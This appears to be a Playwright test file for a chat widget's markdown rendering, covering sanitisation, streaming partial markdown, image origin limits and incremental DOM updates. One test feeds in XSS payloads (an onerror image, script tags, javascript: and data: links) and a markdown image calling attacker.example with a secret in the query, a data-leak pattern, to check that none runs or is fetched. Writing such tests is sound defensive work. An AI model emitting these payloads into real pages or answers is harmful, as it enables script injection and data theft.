"""Markdown is drawn as it comes, safely, and a long answer costs no more at its end."""

import pytest
from chat_page import ChatPage
from playwright.sync_api import Request, Route, expect
from stage import IMAGES, Stage

from chatwidget.providers import Gate


def test_markdown_becomes_elements(chat: ChatPage, stage: Stage) -> None:
    stage.plays.write(
        "all kinds",
        "# A title\n\nSome **bold**, *slanted* and `code`.\n\n- one\n- two\n\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n\n",
        "A [link](https://example.org/) and ~~gone~~.",
    )
    chat.open().ask("all kinds")
    chat.expect_ready()
    answer = chat.answer
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("em")).to_have_text("slanted")
    expect(answer.locator("li")).to_have_text(["one", "two"])
    expect(answer.locator("td")).to_have_text(["1", "2"])
    expect(answer.locator("pre code")).to_have_text("print('hi')\n")
    expect(answer.locator("del")).to_have_text("gone")
    link = answer.locator("a")
    expect(link).to_have_attribute("href", "https://example.org/")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow ugc")


def test_half_written_markdown_is_drawn_as_what_it_will_become(
    chat: ChatPage, stage: Stage
) -> None:
    gate = Gate()
    stage.plays.write("half", "This is **bo", gate, "ld** now.")
    chat.open().ask("half")
    expect(chat.answer).to_have_text("This is bo")
    expect(chat.answer.locator("strong")).to_have_text("bo")
    gate.open()
    chat.expect_answer("This is bold now.")


def test_what_a_model_writes_is_never_run_or_fetched(chat: ChatPage, stage: Stage) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    stage.plays.write(
        "attack",
        "<img src=x onerror=alert(1)><script>alert(2)</script>\n\n",
        "![x](https://attacker.example/?q=secret) [a](java\tscript:alert(1)) ",
        "[b](javascript:alert(1)) [c](data:text/html,x)",
    )
    chat.open().ask("attack")
    chat.expect_ready()
    expect(chat.answer).to_contain_text("<script>alert(2)</script>")
    assert chat.answer.locator("img, script, iframe").count() == 0
    assert not any("attacker.example" in url for url in asked)
    schemes = chat.answer.locator("a").evaluate_all("all => all.map(a => a.protocol)")
    assert set(schemes) <= {"https:", "http:"}


@pytest.mark.needs("route")
def test_images_come_from_where_they_may_and_move_nothing(chat: ChatPage, stage: Stage) -> None:
    asked: list[Request] = []
    held: list[Route] = []
    chat.page.on("request", lambda request: asked.append(request))
    chat.page.route(f"{IMAGES}/**", lambda route: held.append(route))
    stage.plays.write(
        "pictures",
        f"![A red bar]({IMAGES}/bar.svg)\n\n",
        f"![Not ours](https://other.example/?q=secret) and ![none]({IMAGES}.evil.example/x)",
    )
    chat.open().ask("pictures")
    chat.expect_ready()
    image = chat.answer.locator("img")
    expect(image).to_have_attribute("alt", "A red bar")
    assert chat.answer.locator("a").all_text_contents() == ["Not ours", "none"]
    expect(image).to_be_in_viewport()
    before = chat.log.evaluate("e => e.scrollHeight")
    while not held:
        chat.page.wait_for_event("request")
    held[0].fulfill(
        body='<svg xmlns="http://www.w3.org/2000/svg" width="9000" height="3000"/>',
        content_type="image/svg+xml",
    )
    chat.page.wait_for_function(
        """() => document.querySelector('chat-widget').shadowRoot.querySelector('.text img')
          .naturalWidth"""
    )
    assert chat.log.evaluate("e => e.scrollHeight") == before
    box = image.bounding_box()
    log = chat.log.bounding_box()
    assert box is not None
    assert log is not None
    assert box["width"] <= log["width"]
    foreign = [request for request in asked if not request.url.startswith(chat.url)]
    assert [request.url for request in foreign] == [f"{IMAGES}/bar.svg"]
    assert "referer" not in foreign[0].all_headers()


def test_a_selection_survives_what_comes_after_it(chat: ChatPage, stage: Stage) -> None:
    gate = Gate()
    stage.plays.write("select", "A paragraph to keep.\n\nAnd another", gate, " one.")
    chat.open().ask("select")
    expect(chat.answer).to_contain_text("And another")
    first = chat.answer.locator("p").first
    first.evaluate("e => { window.kept = e; e.dataset.kept = 'yes' }")
    gate.open()
    expect(chat.answer).to_contain_text("And another one.")
    assert first.evaluate("e => e === window.kept")


TOUCHED = """() => {
  const { shadowRoot } = document.querySelector('chat-widget');
  const text = shadowRoot.querySelector('[part~=assistant-message] .text');
  const settled = new Set([...text.children].slice(0, -1));
  const seen = { settled: settled.size, again: 0 };
  new MutationObserver(records => {
    for (const { target } of records) {
      let node = target;
      while (node !== text && node.parentNode !== text) node = node.parentNode;
      seen.again += settled.has(node);
    }
    [...text.children].slice(0, -1).forEach(block => settled.add(block));
    seen.settled = settled.size;
  }).observe(text, { subtree: true, childList: true, characterData: true, attributes: true });
  window.seen = seen;
}"""


def test_a_long_answer_is_only_ever_touched_at_its_end(chat: ChatPage, stage: Stage) -> None:
    sentence = "Some *words* of a **long** answer, with `code` and a [link](https://example.org). "
    text = f"{sentence * 6}\n\n" * 60
    gate = Gate()
    pieces = [text[at : at + 24] for at in range(0, len(text), 24)]
    stage.plays.write("very long", sentence, "\n\nThen ", gate, *pieces, "THE END")
    chat.open().ask("very long")
    expect(chat.answer).to_contain_text("Then")
    chat.page.evaluate(TOUCHED)
    gate.open()
    expect(chat.answer).to_contain_text("THE END")
    chat.expect_ready()
    seen = chat.page.evaluate("window.seen")
    assert seen["settled"] >= 60
    assert seen["again"] == 0
